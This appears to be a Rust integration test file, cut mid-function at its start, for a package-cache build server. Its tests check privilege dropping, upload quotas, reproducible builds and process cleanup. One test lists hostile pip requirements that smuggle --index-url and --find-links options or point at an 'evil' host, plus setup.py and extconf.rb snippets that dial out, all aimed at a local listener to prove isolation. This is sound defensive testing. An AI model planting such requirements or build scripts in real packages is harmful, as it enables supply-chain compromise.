        assert_eq!(record["attempts"], 1, "{record:#}");
        seen += 1;
    }
    assert_eq!(seen, DISTINCT, "one record per job");
    latencies.sort();
    eprintln!(
        "load: {DISTINCT} builds ({} requests) in {:.1} s = {:.1} builds/minute with 2 workers; \
         queue latency (s) median {} max {}",
        DISTINCT * COPIES,
        elapsed.as_secs_f64(),
        DISTINCT as f64 * 60.0 / elapsed.as_secs_f64(),
        latencies[latencies.len() / 2],
        latencies[latencies.len() - 1]
    );
    app.stop().await;
}

#[tokio::test]
async fn builds_keep_working_after_the_server_drops_root() {
    if !needs_root("to drop root") {
        return;
    }
    let up = Upstreams::start(&[], None).await;
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(
        dir.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o711),
    )
    .unwrap();
    let cache = dir.path().join("cache");
    let gems = format!("rubygems={}/", up.gems.url());
    let bin = support::app::Binary::start(&[
        "--cache",
        cache.to_str().unwrap(),
        "--mirror",
        &gems,
        "--runtime",
        "ruby31=/usr/bin/ruby",
        "--build-uids",
        "62400-62407",
        "--build-concurrency",
        "2",
        "--user",
        "nobody",
    ])
    .await;
    let api = format!("http://{}", bin.api_addr());
    let answer = post(&format!("{api}/api/v1/builds"), &gem("pcpure", "1.0.0")).await;
    assert_eq!(answer.status, 202, "{answer:?}\n{:#?}", bin.log_lines());
    let id = answer.json["id"].as_str().unwrap().to_string();
    let job = poll(&api, &id, "its end", |job| {
        ENDED.contains(&job["state"].as_str().unwrap_or_default())
    })
    .await;
    assert_eq!(job["state"], "complete", "{job:#}\n{:#?}", bin.log_lines());
    let artifact = cache.join(".package-cache/build/artifacts/pcpure-1.0.0@ruby31.tgz");
    let owner = std::os::unix::fs::MetadataExt::uid(&std::fs::metadata(&artifact).unwrap());
    let nobody = String::from_utf8(
        std::process::Command::new("id")
            .args(["-u", "nobody"])
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    assert_eq!(
        owner.to_string(),
        nobody.trim(),
        "the server, not root, wrote it"
    );
    assert!(
        bin.log_lines().iter().any(|l| l.contains("dropped root")),
        "{:#?}",
        bin.log_lines()
    );
    bin.kill9().await;
}

/// Paths under `dir` (not following symlinks) that anyone may write.
fn world_writable(dir: &Path) -> Vec<PathBuf> {
    use std::os::unix::fs::PermissionsExt;
    let mut found = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(path) = todo.pop() {
        let meta = std::fs::symlink_metadata(&path).unwrap();
        if meta.file_type().is_symlink() {
            continue;
        }
        if meta.permissions().mode() & 0o002 != 0 {
            found.push(path.clone());
        }
        if meta.is_dir() {
            for entry in std::fs::read_dir(&path).unwrap() {
                todo.push(entry.unwrap().path());
            }
        }
    }
    found.sort();
    found
}

#[tokio::test]
async fn with_builds_off_nothing_is_world_writable_and_requests_say_builds_are_off() {
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let public = cache.join(".package-cache/build/inbox/public");
    let exe = env!("CARGO_BIN_EXE_package-cache");
    let off = [
        "--cache",
        cache.to_str().unwrap(),
        "--source",
        "http://127.0.0.1:9/",
    ];
    let bin = support::app::Binary::start(&off).await;
    let api = format!("http://{}", bin.api_addr());
    assert!(!public.exists(), "no public inbox while builds are off");
    assert_eq!(world_writable(&cache), Vec::<PathBuf>::new());
    let sha1 = "0".repeat(40);
    for (method, path, body) in [
        (
            "POST",
            "/api/v1/builds".to_string(),
            serde_json::to_vec(&gem("pcpure", "1.0.0")).unwrap(),
        ),
        ("PUT", format!("/api/v1/inbox/{sha1}"), b"bytes".to_vec()),
        (
            "PUT",
            "/load/remote/gem/pcpure-1.0.0.gem/ruby31".to_string(),
            Vec::new(),
        ),
    ] {
        let answer = call(method, &format!("{api}{path}"), body, &[]).await;
        assert_eq!(answer.status, 503, "{method} {path}: {answer:?}");
        let message = answer.json.as_str().unwrap_or_default();
        assert!(
            message.contains("builds are off") && message.contains("--runtime"),
            "{method} {path}: {message:?}"
        );
    }
    let source = dir.path().join("pcpure-1.0.0.gem");
    std::fs::write(&source, b"not really a gem").unwrap();
    for args in [
        vec![
            "build",
            "--type",
            "gem",
            "--name",
            "pcpure",
            "--version",
            "1.0.0",
        ],
        vec![
            "build",
            "--type",
            "gem",
            "--local",
            source.to_str().unwrap(),
        ],
        vec!["inbox", "add", source.to_str().unwrap(), "--type", "gem"],
    ] {
        let out = Cmd::new(exe)
            .args(["--cache", cache.to_str().unwrap()])
            .args(&args)
            .args(["--runtime", "ruby31", "--api", &api])
            .limit(Duration::from_secs(30))
            .run()
            .await;
        assert_eq!(out.code, 2, "{args:?}: {}", out.text());
        assert!(
            out.stderr.contains("builds are off"),
            "{args:?}: {}",
            out.text()
        );
    }
    bin.kill9().await;
    if !support::needs_root("to turn builds on") {
        return;
    }
    // On: the public inbox is the one world-writable thing (sticky, not listable).
    let mut on = off.to_vec();
    on.extend([
        "--runtime",
        "ruby31=/usr/bin/ruby",
        "--build-uids",
        "62420-62421",
    ]);
    let bin = support::app::Binary::start(&on).await;
    assert_eq!(world_writable(&cache), vec![public.clone()]);
    let mode =
        std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&public).unwrap().permissions());
    assert_eq!(mode & 0o7777, 0o1733);
    bin.kill9().await;
    // Off again: the inbox left behind is closed.
    let bin = support::app::Binary::start(&off).await;
    assert_eq!(world_writable(&cache), Vec::<PathBuf>::new());
    bin.kill9().await;
}
#[tokio::test]
async fn a_request_that_cannot_be_built_here_asks_the_origin_nothing() {
    let Some((up, app)) = with_builds("to run builds as other uids", 62410).await else {
        return;
    };
    let load = |path: &str| {
        let url = app.api_url(path);
        async move { support::api::call_with("PUT", &url, "", &[], BUILD_LIMIT).await }
    };
    for (path, says) in [
        (
            "/load/remote/gem/pcpure-1.0.0.gem/ruby99",
            "unknown runtime",
        ),
        (
            "/load/remote/pip/pc_pure-1.0.tar.gz/ruby99",
            "unknown runtime",
        ),
        (
            "/load/remote/pip/pc_pure-1.0.tar.gz/ruby31",
            "cannot be built",
        ),
        ("/load/remote/gem/pcpure-1.0.0.gem/py311", "cannot be built"),
        (
            "/load/remote/npm/left-pad-1.0.0.tgz/ruby31",
            "unknown package type",
        ),
        ("/load/local/gem/pcpure-1.0.0.gem/ruby99", "unknown runtime"),
    ] {
        let answer = load(path).await;
        assert_eq!(answer.status, 400, "{path}: {answer:?}");
        let message = answer.json.as_str().unwrap_or_default();
        assert!(message.contains(says), "{path}: {message:?}");
    }
    for request in [
        json!({"location": "remote", "type": "gem", "name": "pcpure", "version": "1.0.0", "runtime": "ruby99"}),
        json!({"location": "remote", "type": "pip", "name": "pc_pure", "version": "1.0", "runtime": "ruby31"}),
    ] {
        let answer = post(&app.api_url("/api/v1/builds"), &request).await;
        assert_eq!(answer.status, 400, "{request}: {answer:?}");
    }
    for site in [&up.gems, &up.index, &up.files] {
        assert_eq!(site.log().len(), 0, "{:?}", site.log());
    }
    // The same request for a configured runtime does reach the origin.
    let built = load("/load/remote/gem/pcpure-1.0.0.gem/ruby31").await;
    assert_eq!(built.status, 204, "{built:?}");
    assert!(!up.gems.requests_for("/info/pcpure").is_empty());
    app.stop().await;
}

/// `n` files of `size` distinct bytes in `dir` (readable by anyone): (path, SHA1).
fn upload_files(dir: &Path, prefix: &str, n: usize, size: usize) -> Vec<(PathBuf, String)> {
    (0..n)
        .map(|i| {
            let bytes = support::client::bytes_of(size, (i as u64) * 31 + prefix.len() as u64);
            let mut bytes = bytes.to_vec();
            bytes.extend_from_slice(format!("{prefix}{i}").as_bytes());
            let path = dir.join(format!("{prefix}{i}.bin"));
            std::fs::write(&path, &bytes).unwrap();
            (path, sha1_hex(&bytes))
        })
        .collect()
}

/// As `uid`, PUTs every file at once with curl (`chunked`: without a
/// length); each answer's status and body land in `out` (owned by `uid`).
async fn upload_as(
    uid: u32,
    api: &str,
    files: &[(PathBuf, String)],
    out: &Path,
    chunked: bool,
) -> Vec<(u16, Value)> {
    std::fs::create_dir_all(out).unwrap();
    rustix::fs::chown(
        out,
        Some(rustix::process::Uid::from_raw(uid)),
        Some(rustix::process::Gid::from_raw(uid)),
    )
    .unwrap();
    let header = if chunked {
        "-H 'Transfer-Encoding: chunked'"
    } else {
        ""
    };
    let mut script = String::new();
    for (i, (path, sha1)) in files.iter().enumerate() {
        script.push_str(&format!(
            "curl -s {header} -o '{out}/{i}.json' -w '%{{http_code}}' -X PUT --data-binary '@{path}' '{api}/api/v1/inbox/{sha1}' > '{out}/{i}.code' &\n",
            out = out.display(),
            path = path.display(),
        ));
    }
    script.push_str("wait\n");
    let (code, text) = as_user(uid, &script).await;
    assert_eq!(code, 0, "{text}");
    (0..files.len())
        .map(|i| {
            let code = std::fs::read_to_string(out.join(format!("{i}.code"))).unwrap();
            let body = std::fs::read(out.join(format!("{i}.json"))).unwrap_or_default();
            let json = serde_json::from_slice(&body).unwrap_or(Value::Null);
            (code.trim().parse().unwrap_or(0), json)
        })
        .collect()
}

#[tokio::test]
async fn uploads_are_counted_per_user_and_concurrent_ones_never_pass_the_quota() {
    if !needs_root("to upload as two non-root users") {
        return;
    }
    const QUOTA: u64 = 1 << 20;
    const SIZE: usize = 400 << 10;
    let up = Upstreams::start(&[], None).await;
    let app = start(&up, 62430, |c| c.build.inbox_quota = QUOTA).await;
    let api = base(&app);
    let scratch = tempfile::tempdir().unwrap();
    std::fs::set_permissions(
        scratch.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let (alice, bob) = (62438, 62439);
    let alice_files = upload_files(scratch.path(), "a", 3, SIZE);
    let bob_files = upload_files(scratch.path(), "b", 3, SIZE);
    // Both users at once, three uploads each: two of each user's fit.
    let (out_a, out_b) = (scratch.path().join("out-a"), scratch.path().join("out-b"));
    let (a, b) = tokio::join!(
        upload_as(alice, &api, &alice_files, &out_a, false),
        upload_as(bob, &api, &bob_files, &out_b, false),
    );
    for (who, answers) in [("alice", &a), ("bob", &b)] {
        let mut codes: Vec<u16> = answers.iter().map(|(code, _)| *code).collect();
        codes.sort();
        assert_eq!(codes, [201, 201, 503], "{who}: {answers:?}");
        let refused = answers.iter().find(|(code, _)| *code == 503).unwrap();
        let message = refused.1.as_str().unwrap_or_default();
        assert!(
            message.contains(&format!("uid {}", if who == "alice" { alice } else { bob }))
                && message.contains("quota"),
            "{who}: {message}"
        );
    }
    // Without a length, bytes are counted as they come: refused mid-way,
    // and what was counted is given back.
    let more = upload_files(scratch.path(), "c", 1, SIZE);
    let late = upload_as(alice, &api, &more, &scratch.path().join("out-c"), true).await;
    assert_eq!(late[0].0, 503, "{late:?}");
    // A build request that claims one of alice's uploads frees its share.
    let (index, (_, claimed)) = a
        .iter()
        .enumerate()
        .find(|(_, (code, _))| *code == 201)
        .unwrap();
    let answer = post(
        &app.api_url("/api/v1/builds"),
        &json!({"location": "local", "type": "gem", "name": alice_files[index].1,
            "runtime": "ruby31", "upload": claimed["upload"]}),
    )
    .await;
    assert_eq!(answer.status, 202, "{answer:?}");
    let again = upload_as(alice, &api, &more, &scratch.path().join("out-d"), true).await;
    assert_eq!(again[0].0, 201, "{again:?}");
    // One upload larger than the whole quota is never accepted.
    let huge = upload_files(scratch.path(), "h", 1, QUOTA as usize + 1);
    let refused = upload_as(bob, &api, &huge, &scratch.path().join("out-h"), false).await;
    assert_eq!(refused[0].0, 413, "{refused:?}");
    app.stop().await;
}

#[tokio::test]
async fn native_packages_build_to_the_same_bytes_in_two_caches() {
    if !needs_root("to run builds as other uids") {
        return;
    }
    let up = Upstreams::start(&[], None).await;
    // Two servers, two cache directories (so two work roots at different
    // paths), two sets of build uids.
    let (first, second) = tokio::join!(start(&up, 62440, |_| {}), start(&up, 62450, |_| {}));
    assert_ne!(first.cache, second.cache);
    for (request, extension) in [
        (sdist("pc_native", "1.0"), "pc_native.cpython-"),
        (
            sdist("MarkupSafe", "2.1.5"),
            "markupsafe/_speedups.cpython-",
        ),
        (
            sdist("simplejson", "3.19.2"),
            "simplejson/_speedups.cpython-",
        ),
        (gem("pcnative", "1.0.0"), "pcnative.so"),
    ] {
        let (a, b) = tokio::join!(built(&first, &request), built(&second, &request));
        let name = a["artifact"].as_str().unwrap();
        let path = format!("/api/v1/artifacts/{name}");
        let (url_a, url_b) = (first.api_url(&path), second.api_url(&path));
        let (bytes_a, bytes_b) =
            tokio::join!(call("GET", &url_a, "", &[]), call("GET", &url_b, "", &[]));
        let files = members(&bytes_a.bytes);
        assert!(
            files
                .iter()
                .any(|f| f.contains(extension) && f.ends_with(".so")),
            "{name}: a native extension was built: {files:?}"
        );
        eprintln!(
            "{name}: sha256 {} (first cache), {} (second cache)",
            a["sha256"], b["sha256"]
        );
        assert_eq!(
            a["sha256"], b["sha256"],
            "{name}: the same bytes from both caches"
        );
        assert_eq!(bytes_a.bytes, bytes_b.bytes, "{name}");
    }
    first.stop().await;
    second.stop().await;
}

/// An sdist `NAME-1.0.tar.gz` whose `build-system.requires` is `requires`
/// and whose setup.py runs `code` first.
fn sdist_requiring(name: &str, requires: &[String], code: &str) -> Vec<u8> {
    let mut out = Vec::new();
    {
        let gz = flate2::write::GzEncoder::new(&mut out, flate2::Compression::default());
        let mut tar = tar::Builder::new(gz);
        let toml_list: Vec<String> = requires
            .iter()
            .map(|r| format!("\"{}\"", r.replace('\\', "\\\\").replace('"', "\\\"")))
            .collect();
        let files = [
            ("pyproject.toml", format!("[build-system]\nrequires = [{}]\nbuild-backend = \"setuptools.build_meta\"\n", toml_list.join(", "))),
            ("setup.py", format!("{code}\nfrom setuptools import setup\nsetup(name={name:?}, version='1.0', py_modules=[])\n")),
            ("PKG-INFO", format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")),
        ];
        for (path, text) in files {
            let mut header = tar::Header::new_gnu();
            header.set_size(text.len() as u64);
            header.set_mode(0o644);
            header.set_cksum();
            tar.append_data(&mut header, format!("{name}-1.0/{path}"), text.as_bytes())
                .unwrap();
        }
        tar.into_inner().unwrap().finish().unwrap();
    }
    out
}

/// Publishes project `name` on the upstream index with one file at `url`
/// (relative to the index host, or absolute), as a PEP 691 and a PEP 503 page.
fn publish(up: &Upstreams, name: &str, filename: &str, url: &str, sha256: &str) {
    let dir = up.tmp.path().join("index/simple").join(name);
    std::fs::create_dir_all(&dir).unwrap();
    let page = json!({"meta": {"api-version": "1.1"}, "name": name, "versions": ["1.0"],
        "files": [{"filename": filename, "url": url, "hashes": {"sha256": sha256}}]});
    std::fs::write(dir.join("index.json"), page.to_string()).unwrap();
    std::fs::write(
        dir.join("index.html"),
        format!("<!DOCTYPE html>\n<html><body><a href=\"{url}#sha256={sha256}\">{filename}</a></body></html>\n"),
    )
    .unwrap();
}

/// A gem `NAME-1.0.0.gem` whose `ext/NAME/extconf.rb` runs `ruby` first.
async fn gem_with_extconf(dir: &Path, name: &str, ruby: &str) -> Vec<u8> {
    let src = dir.join(name);
    std::fs::create_dir_all(src.join(format!("ext/{name}"))).unwrap();
    std::fs::write(
        src.join(format!("ext/{name}/extconf.rb")),
        format!("{ruby}\nrequire 'mkmf'\ncreate_makefile('{name}')\n"),
    )
    .unwrap();
    std::fs::write(
        src.join(format!("ext/{name}/{name}.c")),
        format!("void Init_{name}(void) {{}}\n"),
    )
    .unwrap();
    std::fs::write(
        src.join(format!("{name}.gemspec")),
        format!(
            "Gem::Specification.new do |s|\n  s.name = {name:?}\n  s.version = '1.0.0'\n  s.summary = 'x'\n  s.authors = ['t']\n  s.license = 'MIT'\n  s.files = ['ext/{name}/extconf.rb', 'ext/{name}/{name}.c']\n  s.extensions = ['ext/{name}/extconf.rb']\nend\n"
        ),
    )
    .unwrap();
    Cmd::new("gem")
        .args(["build", &format!("{name}.gemspec")])
        .current_dir(&src)
        .limit(Duration::from_secs(60))
        .ok()
        .await;
    std::fs::read(src.join(format!("{name}-1.0.0.gem"))).unwrap()
}

/// Uploads `bytes` and asks for a local build: the answer.
async fn submit_local(
    app: &TestApp,
    kind: &str,
    runtime: &str,
    bytes: &[u8],
) -> support::api::Answer {
    let sha1 = sha1_hex(bytes);
    let up = call(
        "PUT",
        &app.api_url(&format!("/api/v1/inbox/{sha1}")),
        bytes.to_vec(),
        &[],
    )
    .await;
    assert_eq!(up.status, 201, "{up:?}");
    post(
        &app.api_url("/api/v1/builds"),
        &json!({"location": "local", "type": kind, "name": sha1, "runtime": runtime,
            "upload": up.json["upload"]}),
    )
    .await
}

#[tokio::test]
async fn hostile_requirements_and_build_scripts_reach_nothing_but_the_cache() {
    let Some((up, app)) = with_builds("to run builds as other uids", 62460).await else {
        return;
    };
    // A listener the test owns, on the host's loopback: what a hostile build
    // would like to reach. It counts every connection it accepts.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let evil = listener.local_addr().unwrap();
    let seen = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = seen.clone();
    let acceptor = tokio::spawn(async move {
        while let Ok((_stream, _)) = listener.accept().await {
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        }
    });

    // Requirements that name a place, not a project on the index: refused
    // when the source is handed in, with a client error that says why.
    let hostile: Vec<Vec<String>> = vec![
        vec![format!(
            "pcevil @ http://{evil}/pcevil-1.0-py3-none-any.whl"
        )],
        vec![format!("pcevil@http://{evil}/pcevil-1.0.tar.gz")],
        vec![format!("pcevil[extra] @ https://{evil}/pcevil.zip")],
        vec![format!("pcevil @ git+http://{evil}/pcevil.git")],
        vec![format!("git+http://{evil}/pcevil.git#egg=pcevil")],
        vec![format!("http://{evil}/pcevil-1.0-py3-none-any.whl")],
        vec![format!("file:///tmp/pcevil-1.0-py3-none-any.whl")],
        vec!["./pcevil".into()],
        vec!["/tmp/pcevil".into()],
        vec![
            "setuptools".into(),
            format!("--index-url=http://{evil}/simple/"),
        ],
        vec![format!("-i http://{evil}/simple/")],
        vec![format!(
            "setuptools --extra-index-url http://{evil}/simple/"
        )],
        vec![format!("--find-links=http://{evil}/")],
        vec![format!("setuptools -f http://{evil}/")],
        vec!["setuptools==68.2.2 --hash=sha256:00".into()],
        vec![format!(
            "setuptools; python_version > '3' --index-url http://{evil}/"
        )],
    ];
    for (i, requires) in hostile.iter().enumerate() {
        let bytes = sdist_requiring(&format!("pcreq{i}"), requires, "");
        let answer = submit_local(&app, "pip", "py311", &bytes).await;
        let message = answer.json.as_str().unwrap_or_default();
        assert_eq!(answer.status, 400, "{requires:?}: {answer:?}");
        assert!(
            message.contains("build requirement") && message.contains("index"),
            "{requires:?}: {message}"
        );
    }
    // A remote sdist with such a requirement: the job fails, the client's fault.
    let remote = sdist_requiring(
        "pchostile",
        &[format!(
            "pcevil @ http://{evil}/pcevil-1.0-py3-none-any.whl"
        )],
        "",
    );
    std::fs::create_dir_all(up.tmp.path().join("index/packages")).unwrap();
    std::fs::write(
        up.tmp.path().join("index/packages/pchostile-1.0.tar.gz"),
        &remote,
    )
    .unwrap();
    publish(
        &up,
        "pchostile",
        "pchostile-1.0.tar.gz",
        "../../packages/pchostile-1.0.tar.gz",
        &sha256(&remote),
    );
    let answer = post(&app.api_url("/api/v1/builds"), &sdist("pchostile", "1.0")).await;
    assert_eq!(answer.status, 202, "{answer:?}");
    let job = finished(&app, answer.json["id"].as_str().unwrap()).await;
    assert_eq!(job["state"], "failed", "{job:#}");
    assert_eq!(job["error"]["class"], "client", "{job:#}");
    assert!(
        job["error"]["message"].as_str().unwrap().contains("URL"),
        "{job:#}"
    );
    let load = support::api::call_with(
        "PUT",
        &app.api_url("/load/remote/pip/pchostile-1.0.tar.gz/py311"),
        "",
        &[],
        BUILD_LIMIT,
    )
    .await;
    assert_eq!(load.status, 422, "{load:?}");

    // A plain requirement whose index page links elsewhere: pip follows the
    // link from the job's network, where no such address exists.
    publish(
        &up,
        "pcevil",
        "pcevil-1.0-py3-none-any.whl",
        &format!("http://{evil}/pcevil-1.0-py3-none-any.whl"),
        &"0".repeat(64),
    );
    let answer = submit_local(
        &app,
        "pip",
        "py311",
        &sdist_requiring("pcfollows", &["pcevil".into()], ""),
    )
    .await;
    assert_eq!(answer.status, 202, "{answer:?}");
    let job = finished(&app, answer.json["id"].as_str().unwrap()).await;
    assert_eq!(job["state"], "failed", "{job:#}");
    let log = job["log_tail"].as_str().unwrap_or_default();
    assert!(
        log.contains("Connection refused") || log.contains("Errno 111"),
        "{log}"
    );

    // Build scripts that connect directly: an sdist's setup.py, a gem's extconf.rb.
    let connect = format!(
        "import socket; socket.create_connection(('{}', {}), timeout=5)",
        evil.ip(),
        evil.port()
    );
    let answer = submit_local(
        &app,
        "pip",
        "py311",
        &sdist_requiring("pcdials", &["setuptools>=40.8.0".into()], &connect),
    )
    .await;
    assert_eq!(answer.status, 202, "{answer:?}");
    let job = finished(&app, answer.json["id"].as_str().unwrap()).await;
    assert_eq!(job["state"], "failed", "{job:#}");
    let scratch = tempfile::tempdir().unwrap();
    let ruby = format!("require 'socket'\nbegin\n  TCPSocket.new('{}', {}).close\n  puts 'CONNECTED'\nrescue SystemCallError => e\n  abort \"no connection: #{{e.class}}\"\nend", evil.ip(), evil.port());
    let gem = gem_with_extconf(scratch.path(), "pcdialgem", &ruby).await;
    let answer = submit_local(&app, "gem", "ruby31", &gem).await;
    assert_eq!(answer.status, 202, "{answer:?}");
    let job = finished(&app, answer.json["id"].as_str().unwrap()).await;
    assert_eq!(job["state"], "failed", "{job:#}");
    let log = job["log_tail"].as_str().unwrap_or_default();
    assert!(
        log.contains("no connection") && !log.contains("CONNECTED"),
        "{log}"
    );

    // Normal builds still fetch their requirements, through the cache.
    built(&app, &sdist("pc_pure", "1.0")).await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    let connections = seen.load(std::sync::atomic::Ordering::SeqCst);
    eprintln!("hostile builds: the test's listener at {evil} saw {connections} connections");
    assert_eq!(connections, 0, "a build reached {evil}");
    acceptor.abort();
    app.stop().await;
}

/// Live (not zombie) processes run by any uid of `uids`: "PID UID COMMAND".
fn processes_of_uids(uids: std::ops::Range<u32>) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(status) = std::fs::read_to_string(entry.path().join("status")) else {
            continue;
        };
        let field = |name: &str| {
            status
                .lines()
                .find_map(|l| l.strip_prefix(name))
                .unwrap_or("")
                .trim()
                .to_string()
        };
        if field("State:").starts_with('Z') {
            continue;
        }
        let uid = field("Uid:")
            .split_whitespace()
            .filter_map(|id| id.parse::<u32>().ok())
            .find(|id| uids.contains(id));
        if let Some(uid) = uid {
            let cmdline = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
            found.push(format!(
                "{} {uid} {}",
                entry.file_name().to_string_lossy(),
                String::from_utf8_lossy(&cmdline).replace('\0', " ").trim()
            ));
        }
    }
    found
}

#[tokio::test]
async fn builds_die_with_a_killed_server_and_a_restarted_one_builds_again() {
    if !needs_root("to run builds as other uids") {
        return;
    }
    let up = Upstreams::start(&[], None).await;
    for (round, user) in [(0u32, None), (1, Some("nobody"))] {
        let uids = 62470 + 10 * round..62474 + 10 * round;
        let dir = tempfile::tempdir().unwrap();
        std::fs::set_permissions(
            dir.path(),
            std::os::unix::fs::PermissionsExt::from_mode(0o711),
        )
        .unwrap();
        let cache = dir.path().join("cache");
        let (pypi, files, gems) = (
            format!("pypi={}/", up.index.url()),
            format!("pypi={}", up.files.url()),
            format!("rubygems={}/", up.gems.url()),
        );
        let range = format!("{}-{}", uids.start, uids.end - 1);
        let mut args = vec![
            "--cache",
            cache.to_str().unwrap(),
            "--mirror",
            &pypi,
            "--files-host",
            &files,
            "--mirror",
            &gems,
            "--runtime",
            "py311=/usr/bin/python3",
            "--runtime",
            "ruby31=/usr/bin/ruby",
            "--build-uids",
            &range,
            "--build-concurrency",
            "2",
        ];
        if let Some(user) = user {
            args.extend(["--user", user]);
        }
        let who = user.unwrap_or("root");
        let bin = support::app::Binary::start(&args).await;
        let api = format!("http://{}", bin.api_addr());
        // A long build, with processes that leave their session.
        let code = "import os, subprocess, time\nsubprocess.Popen(['setsid', 'sleep', '300'])\nos.system('sleep 300 &')\ntime.sleep(300)";
        let bytes = sdist_running("pclong", code);
        let sha1 = sha1_hex(&bytes);
        let upload = call("PUT", &format!("{api}/api/v1/inbox/{sha1}"), bytes, &[]).await;
        assert_eq!(upload.status, 201, "{upload:?}");
        let answer = post(
            &format!("{api}/api/v1/builds"),
            &json!({"location": "local", "type": "pip", "name": sha1, "runtime": "py311",
                "upload": upload.json["upload"]}),
        )
        .await;
        assert_eq!(answer.status, 202, "{answer:?}");
        let until = Instant::now() + BUILD_LIMIT;
        while processes_of_uids(uids.clone())
            .iter()
            .filter(|p| p.contains("sleep 300"))
            .count()
            < 2
        {
            assert!(
                Instant::now() < until,
                "{who}: the long build never got going"
            );
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        let during = processes_of_uids(uids.clone());
        bin.kill9().await;
        tokio::time::sleep(Duration::from_secs(1)).await;
        let after = processes_of_uids(uids.clone());
        eprintln!(
            "{who}: {} build processes before SIGKILL, {} one second after",
            during.len(),
            after.len()
        );
        assert_eq!(
            after,
            Vec::<String>::new(),
            "{who}: outlived the server: was {during:?}"
        );

        // Left over from elsewhere: killed at start-up, before a uid is handed out.
        let mut stray = tokio::process::Command::new("setpriv")
            .args([
                format!("--reuid={}", uids.start + 1),
                format!("--regid={}", uids.start + 1),
                "--clear-groups".into(),
                "sleep".into(),
                "300".into(),
            ])
            .kill_on_drop(true)
            .spawn()
            .unwrap();
        tokio::time::sleep(Duration::from_millis(200)).await;
        assert_eq!(processes_of_uids(uids.clone()).len(), 1);
        let bin = support::app::Binary::start(&args).await;
        assert_eq!(
            processes_of_uids(uids.clone()),
            Vec::<String>::new(),
            "{who}"
        );
        let status = tokio::time::timeout(Duration::from_secs(5), stray.wait())
            .await
            .unwrap()
            .unwrap();
        assert!(!status.success(), "the stray process was killed: {status}");
        // The restarted server builds again (the interrupted job runs again
        // beside it).
        let api = format!("http://{}", bin.api_addr());
        let answer = post(&format!("{api}/api/v1/builds"), &gem("pcpure", "1.0.0")).await;
        assert_eq!(answer.status, 202, "{answer:?}");
        let job = poll(
            &api,
            answer.json["id"].as_str().unwrap(),
            "its end",
            |job| ENDED.contains(&job["state"].as_str().unwrap_or_default()),
        )
        .await;
        assert_eq!(
            job["state"],
            "complete",
            "{who}: {job:#}\n{:#?}",
            bin.log_lines()
        );
        bin.kill9().await;
        tokio::time::sleep(Duration::from_secs(1)).await;
        assert_eq!(
            processes_of_uids(uids.clone()),
            Vec::<String>::new(),
            "{who}"
        );
    }
}
